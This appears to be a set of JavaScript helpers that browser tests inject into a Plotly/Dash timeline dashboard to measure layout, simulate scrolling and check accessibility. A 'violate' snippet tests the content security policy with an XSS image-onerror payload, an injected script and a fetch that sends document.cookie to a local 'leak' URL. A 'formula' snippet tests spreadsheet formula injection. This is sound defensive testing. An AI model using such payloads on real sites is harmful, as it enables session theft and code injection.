// count: lets a test wait until the page's requests have been answered
if (window.rest) return;
const fetched = window.fetch;
window.underWay = 0;
window.fetch = (...asked) => { window.underWay++; return fetched(...asked).finally(() => window.underWay--); };
window.rest = (quietly, done) => {
  let quiet = 0, left = 100;
  const rests = () => {
    quiet = window.underWay ? 0 : quiet + 1;
    quiet < quietly && left-- ? setTimeout(rests, 50) : done(true);
  };
  setTimeout(rests, 50);
};
// visit: shows a view in the page that is open; false if it has to be loaded
const [address, done] = arguments, there = new URL(address);
const isOpen = there.origin + there.pathname === location.origin + location.pathname;
if (!isOpen || window.altered || !window.rest || !window.dash_clientside?.intertoken) return done(false);
document.querySelectorAll("dialog[open]").forEach((dialog) => dialog.close());
document.querySelectorAll("details[open]:has(> summary[id$=-open])").forEach((folded) => (folded.open = false));
document.querySelector("#runs-open[aria-expanded=true]")?.click();
document.activeElement.blur();
scrollTo(0, 0);
history.pushState({}, "", address);
dispatchEvent(new PopStateEvent("popstate"));
window.rest(3, done);
// unfold: opens the table of runs; whether it is
const button = document.getElementById("runs-open");
const filled = document.querySelector("#runs [row-id], #chips li");
const isOpen = () => button?.getAttribute("aria-expanded") === "true";
if (filled && !isOpen()) button.click();
return isOpen();
// drawn: the texts of shapes and annotations of a name
const plot = document.querySelector('#timeline .js-plotly-plot');
const { shapes = [], annotations = [] } = plot?._fullLayout ?? {};
return [...shapes, ...annotations].filter((mark) => mark.name === arguments[0]).map((mark) => mark.text ?? "");
// spot: the place of a bar of a name, px, at a share of its width: of a number, or the first in view that says something
const [name, share, number, words] = arguments;
const said = ({ hovertemplate, hovertext }, mark) =>
  hovertemplate.replace("%{hovertext}", () => [hovertext].flat().at(mark) ?? hovertext);
const plot = document.querySelector((name === "minimap" ? "#minimap" : "#timeline") + " .js-plotly-plot");
if (!plot?._fullLayout) return null;
const { xaxis, yaxis } = plot._fullLayout;
plot.scrollIntoView({ block: "center" });
const box = plot.getBoundingClientRect(), left = box.left + xaxis._offset, top = box.top + yaxis._offset;
if (name === "minimap") return [left + xaxis._length * share, box.top + box.height / 2].map(Math.round);
for (const trace of plot._fullData.filter((trace) => trace.name === name))
  for (let mark = number ?? 0; mark < (number === null ? trace.x.length : number + 1); mark++) {
    const x = xaxis.l2p(trace.base[mark] + trace.x[mark] * share), y = top + yaxis.l2p(trace.y[mark]);
    if (words && !said(trace, mark).includes(words)) continue;
    if (number !== null || (x > 5 && x < xaxis._length - 5 && y > 0 && y < innerHeight)) return [left + x, y].map(Math.round);
  }
return null;
// names: the names of rows and where each begins, px from the timeline's left
const { left } = document.getElementById("timeline").getBoundingClientRect();
return [...document.querySelectorAll(":is(#timeline, #minimap) .ytick text")].map((name) =>
  [name.textContent, name.getBoundingClientRect().left - left]);
// frame: the ends of the minimap's frame, as shares of its width
const {xaxis} = document.querySelector('#minimap .js-plotly-plot')._fullLayout;
const frame = document.getElementById('in-view'), {offsetLeft: left, offsetWidth: wide} = frame;
return frame.checkVisibility() ? [left, left + wide].map((x) => (x - xaxis._offset) / xaxis._length) : [-1, -1];
// cells: the texts of a row of the sums
const rows = [...document.querySelectorAll("#sums tbody tr")];
const row = rows.find((row) => row.querySelector("th").innerText === arguments[0]);
return row ? [...row.querySelectorAll("td")].map((cell) => cell.innerText) : [];
// over: places of two times on a row of the timeline, px
const plot = document.querySelector('#timeline .js-plotly-plot'), {xaxis, yaxis} = plot._fullLayout;
plot.scrollIntoView({block: 'center'});
const box = plot.getBoundingClientRect(), row = yaxis.ticktext.indexOf(arguments[2]);
const place = (x) => Math.round(box.left + xaxis._offset + xaxis.l2p(x / 1e9));
return [place(arguments[0]), place(arguments[1]), Math.round(box.top + yaxis._offset + yaxis.l2p(yaxis.tickvals[row]))];
// label: the lines of the label of the bar under the pointer
return [...document.querySelectorAll('#timeline .hovertext tspan.line')].map((line) => line.textContent);
// frames: counts the labels and cards that are seen in each frame in which the timeline moves
window.moved = [];
const note = () => {
  const said = [...document.querySelectorAll('#timeline .hoverlayer, #card.seen')];
  const seen = said.filter((part) => part.childElementCount && part.checkVisibility({ opacityProperty: true }));
  if (document.querySelector('.moving-marks')) window.moved.push(seen.length);
  requestAnimationFrame(note);
};
note();
// late: lets requests with a word in them come late, and their answers, ms
const fetched = window.fetch, [word, request, answer] = arguments;
window.fetch = async (...what) => {
  const isMeant = String(what[1]?.body).includes(word), pause = (time) => new Promise((go) => setTimeout(go, time));
  if (isMeant && request) await pause(request);
  const answered = await fetched(...what);
  if (isMeant && answer) await pause(answer);
  return answered;
};
// widest: the place of the widest bar of a kind that stands for one event, or for several
const [kind, merged] = arguments, plot = document.querySelector('#timeline .js-plotly-plot');
const { xaxis, yaxis } = plot._fullLayout, at = (left, top) => [left + xaxis._offset, top + yaxis._offset];
plot.scrollIntoView({ block: 'center' });
const { left, top } = plot.getBoundingClientRect(), found = [];
for (const { base, x, y, customdata } of plot._fullData.filter(({ type, name }) => type === 'bar' && name === kind))
  for (let mark = 0; mark < x.length; mark++) {
    const [from, to] = [base[mark], base[mark] + x[mark]].map((time) => xaxis.l2p(time));
    if (customdata[mark][0] < 0 === merged && from > 5 && to < xaxis._length - 5)
      found.push([to - from, at(left + (from + to) / 2, top + yaxis.l2p(y[mark])).map(Math.round)]);
  }
return found.sort(([one], [other]) => other - one)[0]?.[1];
// lines: the lines of what is shown at these places, as they are copied
const shown = (selector) => document.querySelector(selector)?.innerText ?? '';
document.body.classList.add('copying');
const said = arguments[0].map(shown).join('\n').split('\n').map((line) => line.trim()).filter(Boolean);
document.body.classList.remove('copying');
return said;
// wheel: turns the wheel frame by frame; whether each bar is where it was drawn once the hand rests
const [at, many, by, done] = arguments, plot = document.querySelector('#timeline .js-plotly-plot');
const drag = plot.querySelector('.nsewdrag'), box = drag.getBoundingClientRect();
const left = box.left + at * box.width, y = box.top + 20;
const seen = () => {  // the colour at a point of the canvas
  const canvas = document.querySelector('.moving-marks'), pen = canvas.getContext('2d');
  const {data} = pen.getImageData(0, 0, canvas.width, canvas.height);
  const here = canvas.getBoundingClientRect(), ratio = canvas.width / here.width;
  return (x, y) => {
    const pixel = Math.round((y - here.top) * ratio) * canvas.width + Math.round((x - here.left) * ratio);
    return `rgb(${data.slice(4 * pixel, 4 * pixel + 3).join(', ')})`;
  };
};
const compare = (colour) => [...plot.querySelectorAll('.barlayer path')]
  .map(({style}, at, all) => [style.fill, style.fillOpacity * style.opacity, all[at].getBoundingClientRect()])
  .filter(([fill, opacity, {left, right}]) => fill.startsWith('rgb') && opacity === 1 && left > box.left + 5
    && right < box.right - 5 && right - left > 15)
  .map(([fill, , {left, right, top}]) => [[left + 3, right - 3].every((x) => colour(x, top + 4) === fill),
    [left, right].every((end) => [-1, 0, 1].some((by) => colour(end + by, top + 4) !== fill))]);
let event, count = 0, last = performance.now(), pauses = 0;
const next = () => {
  pauses += performance.now() - last > 180;  // on a busy machine: the hand seems to rest
  last = performance.now();
  event = new WheelEvent('wheel', {clientX: left, clientY: y, bubbles: true, cancelable: true, ...by});
  drag.dispatchEvent(event);
  if (++count < many) return requestAnimationFrame(next);
  const drawn = plot._fullLayout.xaxis.range.join();
  requestAnimationFrame(() => requestAnimationFrame(() => {
    const moving = plot.classList.contains('moving'), colour = moving && seen();
    const answer = () => done({moving, pauses, bars: moving && compare(colour), kept: event.defaultPrevented});
    const waiting = () => plot._fullLayout.xaxis.range.join() === drawn || plot.classList.contains('moving')
      ? requestAnimationFrame(waiting) : requestAnimationFrame(answer);
    waiting();
  }));
};
window.asked = performance.getEntriesByType('resource').length;
next();
// outputs: keeps the outputs of the callbacks that are asked for
const fetched = window.fetch;
window.outputs = [];
window.fetch = (...asked) => {
  if (asked[1]?.body) window.outputs.push(JSON.parse(asked[1].body).output);
  return fetched(...asked);
};
// notches: turns the wheel notch by notch for 2 s; how many requests there were, and how late the last one was
const [apart, by, done] = arguments, drag = document.querySelector('#timeline .nsewdrag');
const box = drag.getBoundingClientRect();
const at = {clientX: box.left + box.width / 2, clientY: box.top + 20, bubbles: true, cancelable: true};
const begin = performance.now(), asked = () => performance.getEntriesByType('resource')
  .filter(({name, startTime}) => name.includes('_dash-update') && startTime > begin).length;
let last = begin, pauses = 0;
const settles = (count, ended) => {  // how long after the last notch its request came
  if (asked() > count) return done({asked: count, pauses, late: performance.now() - ended});
  pauses += performance.now() - last > 110;
  last = performance.now();
  setTimeout(settles, 10, count, ended);
};
const notch = () => {
  pauses += performance.now() - last > apart + 100;
  if (performance.now() - begin > 2000) return settles(asked(), last);
  last = performance.now();
  drag.dispatchEvent(new WheelEvent('wheel', {...at, deltaY: by}));
  setTimeout(notch, apart);
};
notch();
// back: goes back, and presses a key before that view is there
const done = arguments[0];
const press = () => document.body.dispatchEvent(new KeyboardEvent('keydown', {key: 'd', bubbles: true}));
window.addEventListener('popstate', () => setTimeout(() => done(press()), 50), {once: true});
history.back();
// ahead: keeps whether marks are there of what is beyond, and the texts that are drawn while the timeline moves
const {ahead} = window.dash_clientside, {show} = ahead;
const pen = CanvasRenderingContext2D.prototype, {fillText, clearRect} = pen;
ahead.show = (fetched) => { window.ahead = Boolean(fetched); show(fetched); };
pen.fillText = function (text, ...more) { window.said.push(text); return fillText.call(this, text, ...more); };
pen.clearRect = function (x, ...more) { if (x === 0) window.said = []; return clearRect.call(this, x, ...more); };
// hold: nothing is drawn anew
const set = window.dash_clientside.set_props;
window.dash_clientside.set_props = (id, props) => id === 'timeline' || id === 'view' || set(id, props);
// far: moves a long way, frame by frame
const [many, by, done] = arguments, drag = document.querySelector('#timeline .nsewdrag');
const {left, top} = drag.getBoundingClientRect();
let count = 0;
const next = () => {
  const at = {clientX: left + 9, clientY: top + 20, bubbles: true, cancelable: true};
  drag.dispatchEvent(new WheelEvent('wheel', {...at, ...by}));
  requestAnimationFrame(++count < many ? next : () => requestAnimationFrame(done));
};
next();
// beyond: at which of 40 places along the row of the kernels there is one on the canvas
const box = document.querySelector('#timeline .nsewdrag').getBoundingClientRect();
const plot = document.querySelector('#timeline .js-plotly-plot'), canvas = document.querySelector('.moving-marks');
const y = box.top + plot._fullLayout.yaxis.l2p(plot.calcdata[plot.data.findIndex(({name}) => name === 'kernel')][0].p);
const here = canvas.getBoundingClientRect(), ratio = canvas.width / here.width, pen = canvas.getContext('2d');
const {data} = pen.getImageData(0, Math.round((y - here.top) * ratio), canvas.width, 1);
const inside = (x) => data[4 * Math.round((x - here.left) * ratio) + 3] > 0;
return Array.from({length: 40}, (_, at) => inside(box.left + box.width * (at + 0.5) / 40));
// grow: lets what is above the timeline grow; how far the timeline moves, and the page's place
const [tall, done] = arguments, above = document.getElementById('compare-section');
const top = () => document.querySelector('#timeline .js-plotly-plot').getBoundingClientRect().top, before = top();
above.style.minHeight = `${above.offsetHeight + tall}px`;
requestAnimationFrame(() => setTimeout(() => done([top() - before, scrollY]), 50));
// view: what the timeline shows
const gd = document.querySelector('#timeline .js-plotly-plot');
if (!gd?._fullLayout?.xaxis) return null;
const named = (name) => (gd.layout.annotations || []).filter((a) => a.name === name).map((a) => a.text);
return {
  range: gd._fullLayout.xaxis.range.map((x) => Math.round(x * 1e9)), rows: gd._fullLayout.yaxis.ticktext || [],
  headings: named('heading'), gaps: named('gap'),
  kernels: gd.data.flatMap((t, at) => t.name === 'kernel' ? gd.calcdata[at].length : []).reduce((a, b) => a + b, 0),
  hovers: gd.data.filter((t) => t.name === 'kernel').flatMap(
    (t) => [t.hovertext].flat().map((text) => t.hovertemplate.replace('%{hovertext}', () => text))),
};
// places: the tops and bottoms of what the first screen has, once nothing is to come, and its row of tools
const at = (e) => e && e.checkVisibility() ? e.getBoundingClientRect() : null;
const lasting = ["#chips", "#compare-words .answer", "#compare-figures table", "#timeline"]
  .map((selector) => at(document.querySelector(selector)));
const boxes = [...document.querySelectorAll(".tools button, .tools select, .tools input")].map(at).filter(Boolean);
const middles = boxes.map((box) => Math.round((box.top + box.bottom) / 2));
const tools = [Math.max(...middles) - Math.min(...middles), Math.max(...boxes.map((box) => box.right))];
const rests = !document.querySelector(".skeleton") && document.querySelector("#timeline .barlayer path");
return lasting.every(Boolean) && rests ? {
  tops: lasting.map(({ top }) => top), bottoms: lasting.map(({ bottom }) => bottom), tools,
} : null;
// told: the answers of search and "Go to", and whether they are beside the title of the axis
const told = [...document.querySelectorAll(".replies > span")];
const { top } = document.querySelector("#timeline").getBoundingClientRect();
const title = document.querySelector("#timeline .g-xtitle").getBoundingClientRect();
return {
  texts: told.map((e) => e.innerText), titles: told.map((e) => e.firstChild?.title), top: top + scrollY,
  apart: told[0].getBoundingClientRect().right < title.left && title.right < told[1].getBoundingClientRect().left,
};
// cut: the texts in some elements that do not fit
return [...document.querySelectorAll(arguments[0])]
  .filter((e) => e.checkVisibility() && e.scrollWidth > e.clientWidth + 1).map((e) => e.innerText);
// drop: drops files (name, size, text) on the page
const files = new DataTransfer();
for (const [name, size, text] of arguments[0]) files.items.add(new File([text || new Uint8Array(size)], name));
for (const kind of ["dragover", "drop"])
  document.body.dispatchEvent(new DragEvent(kind, {dataTransfer: files, bubbles: true, cancelable: true}));
// choose: lets a test give files to the button, as a reader who chooses them
const click = HTMLInputElement.prototype.click;
HTMLInputElement.prototype.click = function () { this.id = "chosen"; document.body.append(this); };
document.getElementById("add").click();
HTMLInputElement.prototype.click = click;
// unread: the texts of the row of a recording that cannot be read, once its reason is seen whole
const row = document.querySelector(`#runs .ag-center-cols-container [row-id=${arguments[0]}]`), range = new Range();
if (!row) return null;
range.selectNodeContents(row.querySelector("[col-id=strategy]"));
const text = range.getBoundingClientRect(), y = text.top + text.height / 2;
const over = [text.left + 1, text.right - 1].map(x => document.elementFromPoint(x, y));
return over.every(each => each?.closest("[col-id]")?.getAttribute("col-id") === "strategy")
  ? [...row.querySelectorAll("[role=gridcell]")].filter(each => each.checkVisibility({visibilityProperty: true}))
    .map(each => each.innerText.trim()).filter(Boolean) : null;
// traces: the names of the traces of a figure
return (document.querySelector(`#${arguments[0]} .js-plotly-plot`)?.data ?? []).map((trace) => trace.name);
// node: the place of a node in the picture, px from its corner
const cy = document.getElementById('canvas')?._cyreg?.cy;
const found = cy && cy.nodes().filter(n => n.data('name') === arguments[0])[0];
return found && [found.renderedPosition('x'), found.renderedPosition('y')];
// corner: scrolls to what shows an element; its corner
document.getElementById(arguments[0]).scrollIntoView({block: 'center'});
const {left, top} = document.querySelector(arguments[1]).getBoundingClientRect();
return [left, top];
// unheard: lets polls fail until `window.heard`
const fetched = window.fetch;
window.unheard = 0;
window.fetch = (...what) => {
  if (window.heard || !String(what[1]?.body).includes('"id":"poll"')) return fetched(...what);
  window.unheard++;
  return Promise.reject(new TypeError("no network"));
};
// formula: puts a formula into the first row of the syncs, and keeps the file that is saved
const api = dash_ag_grid.getApi("syncs");
const row = { ...api.getDisplayedRowAtIndex(0).data, name: "=1+1", gap_text: "−4.88" };
api.applyTransaction({ update: [row] });
const made = URL.createObjectURL;
URL.createObjectURL = (file) => { file.text().then((text) => (window.saved = text)); return made(file); };
// violate: tries what the policy forbids
const page = document.getElementById("page");
page.insertAdjacentHTML("beforeend", "<img src='data:x' onerror='window.hacked=1'>");
page.append(Object.assign(document.createElement("script"), {textContent: "window.hacked=1"}));
page.append(Object.assign(document.createElement("img"), {src: "http://127.0.0.1:9/x.png"}));
page.append(Object.assign(document.createElement("iframe"), {src: location.href}));
fetch("http://127.0.0.1:9/leak?" + document.cookie).catch(() => null);
// outside: elements beyond the edge of the screen
const INSIDE = ".ag-root-wrapper, .scrolls, .canvas, .downloads, svg, .js-plotly-plot, .unseen, .skip";
return [...document.querySelectorAll("#page *")].filter((e) => !e.closest(INSIDE) && e.checkVisibility())
  .filter((e) => e.getBoundingClientRect().right > innerWidth + 1).map((e) => e.id || e.className || e.tagName);
// small: elements whose type is smaller than so many px
const has = (e) => [...e.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
return [...document.querySelectorAll("#page *")]
  .filter((e) => has(e) && !e.closest("svg, .unseen") && e.checkVisibility())
  .filter((e) => parseFloat(getComputedStyle(e).fontSize) < arguments[0]).map((e) => e.id || e.className || e.tagName);
// long: lines of more than so many em
return [...document.querySelectorAll(".hint, .answer, .notes li, .empty p")].filter((e) => e.checkVisibility())
  .filter((e) => e.clientWidth > arguments[0] * parseFloat(getComputedStyle(e).fontSize)).map((e) => e.innerText);
// paper: keeps what is printed
window.addEventListener("beforeprint", () => {
  const text = (rows) => [...rows].map((row) => row.innerText);
  window.paper = {
    tables: [...document.querySelectorAll("table.printed")].map((table) => table.tBodies[0].rows.length),
    links: [...document.querySelectorAll("table.printed td")].some((cell) => /\]\(/.test(cell.innerText)),
    widths: [...document.querySelectorAll(".js-plotly-plot")].filter((plot) => plot.checkVisibility())
      .map((plot) => plot._fullLayout.width),
    address: document.querySelector(".printed-address").innerText,
  };
});
// seen: the texts of those of some elements that are seen
return [...document.querySelectorAll(arguments[0])].filter((e) => e.checkVisibility()).map((e) => e.innerText);
// dark: the colours of figures that are those of a dark page
return [...document.querySelectorAll(".gridlayer path, .shapelayer path, text:not(.bartext)")]
  .filter((e) => e.checkVisibility() && e.closest(".js-plotly-plot")).map((e) => [e.tagName, getComputedStyle(e)])
  .map(([tag, style]) => [style.fill, tag === "path" ? style.stroke : ""].join())
  .filter((colours) => /rgb\((54, 64, 77|29, 36, 46|22, 27, 34|230, 234, 240)\)/.test(colours));
// darkened: whether all figures that are seen have another ink than this
return document.documentElement.dataset.theme === 'dark' && [...document.querySelectorAll(".js-plotly-plot")]
  .filter((plot) => plot.checkVisibility())
  .every((plot) => plot._fullLayout.font.color.toLowerCase() !== arguments[0]);
// axe: what axe-core finds on a page that has loaded
const [options, done] = arguments, full = document.createElement("style");
full.textContent = "[data-dash-is-loading] { animation: none !important; }";  // what is asked for meanwhile is not pale
document.head.append(full);
axe.run(options).finally(() => full.remove()).then(done);
